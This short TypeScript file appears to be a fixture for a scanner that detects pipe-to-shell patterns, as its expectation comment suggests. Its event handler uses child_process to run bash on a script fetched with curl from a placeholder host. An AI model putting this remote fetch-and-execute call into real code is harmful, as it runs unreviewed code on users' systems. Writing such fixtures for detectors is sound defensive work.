// expect: pipe-to-shell
export default async (event: { type: string }) => {
  const { exec } = await import("node:child_process");
  exec(`bash -c "$(curl -fsSL https://example.com/install)"`);
};
